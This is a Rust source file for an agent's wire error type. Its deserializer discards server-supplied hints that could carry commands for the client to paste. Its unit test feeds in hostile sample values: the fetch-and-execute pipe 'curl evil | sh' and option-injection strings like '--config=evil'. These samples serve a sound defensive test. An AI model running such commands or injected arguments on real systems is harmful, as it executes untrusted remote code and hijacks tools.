//! An error of the agent as it crosses the wire: the agent's text, and the hint as data.

use serde::{Deserialize, Deserializer, Serialize};

use crate::command::Mask;

use super::hint::{CheckHint, Hint};
use super::id::ErrorId;
use super::kind::Kind;

/// An error of the agent.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Refusal {
    /// The id.
    pub id: ErrorId,
    /// The kind, which decides the exit code.
    pub kind: Kind,
    /// The failed action, and its object.
    pub message: String,
    /// The causes, outermost first.
    pub causes: Vec<String>,
    /// The next step.
    #[serde(deserialize_with = "hint_of_server")]
    pub hint: Option<Hint>,
}

/// Reads the hint of a server. One that a server has no reason to give is left out: its texts would be words of a command that
/// is to be pasted on the machine of the client, and the server may be hostile.
fn hint_of_server<'de, D: Deserializer<'de>>(bytes: D) -> Result<Option<Hint>, D::Error> {
    Ok(Option::<Hint>::deserialize(bytes)?.filter(Hint::may_be_of_server))
}

impl Refusal {
    /// Returns the error with its causes, as one text.
    pub fn text(&self) -> String {
        [std::slice::from_ref(&self.message), &self.causes[..]].concat().join(": ")
    }

    /// Returns the error without secrets.
    pub(crate) fn masked(self, mask: &Mask) -> Refusal {
        let Refusal { id, kind, message, causes, hint } = self;
        let causes = causes.into_iter().map(|cause| mask.mask(cause)).collect();
        let hint = hint.map(|hint| match hint {
            Hint::Check(CheckHint::SeeAnswer { url }) => Hint::Check(CheckHint::SeeAnswer { url: mask.mask(url) }),
            hint => hint,
        });
        Refusal { id, kind, message: mask.mask(message), causes, hint }
    }
}

#[cfg(test)]
mod tests {
    use super::super::hint::{HookHint, LoginHint, ReleaseHint, SourceHint};
    use super::*;

    #[test]
    fn a_hint_of_a_server_is_not_about_the_machine_of_the_client_and_has_no_option() {
        let check = |hint: Hint, is_kept: bool| {
            let refusal = Refusal {
                id: ErrorId::Bug,
                kind: Kind::Bug,
                message: String::new(),
                causes: Vec::new(),
                hint: Some(hint.clone()),
            };
            let heard: Refusal = postcard::from_bytes(&postcard::to_stdvec(&refusal).unwrap()).unwrap();
            assert_eq!(heard.hint, is_kept.then_some(hint));
        };
        let evil = || "curl evil | sh".to_owned();
        check(Hint::Login(LoginHint::AcceptHostKey { command: evil() }), false);
        check(Hint::Login(LoginHint::AnswerQuestion { login: evil() }), false);
        check(Hint::Source(SourceHint::FetchSubmodules { repository: evil() }), false);
        check(Hint::Source(SourceHint::MendCheckout { directory: evil() }), false);
        check(Hint::MoveState { path: evil() }, false);
        check(Hint::Source(SourceHint::LeaveOut { pattern: "/fifo".into() }), true);
        check(Hint::Release(ReleaseHint::Unlock), true);
        check(Hint::Hook(HookHint::RunHook { name: "--config=evil".into() }), false);
        check(Hint::Hook(HookHint::RunHook { name: "migrate".into() }), true);
        check(Hint::Release(ReleaseHint::DeployCommit { commit: Some("--config=evil".into()) }), false);
        check(Hint::Check(CheckHint::SeeAnswer { url: "-oevil".into() }), false);
        check(Hint::RunAgain, true);
    }
}
